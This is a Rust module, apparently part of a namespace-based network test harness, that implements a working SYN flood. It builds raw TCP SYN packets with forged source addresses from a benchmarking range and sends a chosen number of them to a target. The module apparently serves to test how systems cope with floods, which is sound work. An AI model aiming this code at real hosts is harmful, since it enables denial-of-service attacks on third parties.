//! A SYN flood: segments from sources that do not exist, by a raw socket.

use std::net::{Ipv4Addr, SocketAddrV4};

use crate::namespace::check;
use crate::{Context, Result};

/// Sends `count` SYNs to `target`, each from another address of 198.18.0.0/15 (RFC 2544) and another port, from the
/// calling thread's namespace (see [`crate::Namespace::inside`]). How many the kernel took.
pub fn syn_flood(target: SocketAddrV4, count: u64) -> Result<u64> {
    // SAFETY: takes values.
    let socket = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    check(socket).context("a raw socket")?;
    let to = libc::sockaddr_in {
        sin_family: libc::AF_INET as u16,
        sin_port: 0,
        sin_addr: libc::in_addr { s_addr: u32::from(*target.ip()).to_be() },
        sin_zero: [0; 8],
    };
    let (mut sent, mut random) = (0, 0x2545_f491_4f6c_dd1du64);
    for _ in 0..count {
        random ^= random << 13;
        random ^= random >> 7;
        random ^= random << 17;
        let packet = syn(random, target);
        // SAFETY: a packet and an address, with their sizes.
        let result = unsafe {
            let (bytes, size) = (packet.as_ptr().cast(), size_of::<libc::sockaddr_in>() as u32);
            libc::sendto(socket, bytes, packet.len(), 0, (&raw const to).cast(), size)
        };
        sent += u64::from(result > 0);
    }
    // SAFETY: ours, used no more.
    unsafe { libc::close(socket) };
    Ok(sent)
}

/// One SYN with an MSS option; the kernel fills in the IP header's length and checksum.
fn syn(random: u64, target: SocketAddrV4) -> [u8; 44] {
    let source = Ipv4Addr::from(0xc612_0000 | (random as u32 & 0x0001_ffff));
    let port = 1024 + (random >> 32) as u16 % 60_000;
    let mut packet = [0; 44];
    packet[..2].copy_from_slice(&[0x45, 0]);
    packet[8..10].copy_from_slice(&[64, libc::IPPROTO_TCP as u8]);
    packet[12..16].copy_from_slice(&source.octets());
    packet[16..20].copy_from_slice(&target.ip().octets());
    packet[20..22].copy_from_slice(&port.to_be_bytes());
    packet[22..24].copy_from_slice(&target.port().to_be_bytes());
    packet[24..28].copy_from_slice(&((random >> 16) as u32).to_be_bytes());
    packet[32..34].copy_from_slice(&[0x60, 0x02]);
    packet[34..36].copy_from_slice(&64_240u16.to_be_bytes());
    packet[40..44].copy_from_slice(&[2, 4, 0x05, 0xb4]);
    let checksum = checksum(&packet);
    packet[36..38].copy_from_slice(&checksum.to_be_bytes());
    packet
}

/// Of the TCP segment behind 20 bytes of IP header, with the pseudo-header's addresses.
fn checksum(packet: &[u8; 44]) -> u16 {
    let words = packet[12..].chunks_exact(2).map(|word| u32::from(u16::from_be_bytes([word[0], word[1]])));
    let mut sum: u32 = words.sum::<u32>() + libc::IPPROTO_TCP as u32 + 24;
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}
